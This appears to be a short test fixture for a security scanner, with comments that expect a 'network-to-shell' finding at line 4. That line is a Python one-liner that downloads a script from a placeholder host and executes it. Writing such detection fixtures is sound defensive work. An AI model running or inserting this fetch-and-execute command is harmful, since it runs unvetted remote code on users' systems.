#!/bin/bash
# shows: Python fetches and runs
# expect: network-to-shell at line 4
python3 -c "import urllib.request; exec(urllib.request.urlopen('https://get.example.com/x.py').read())"
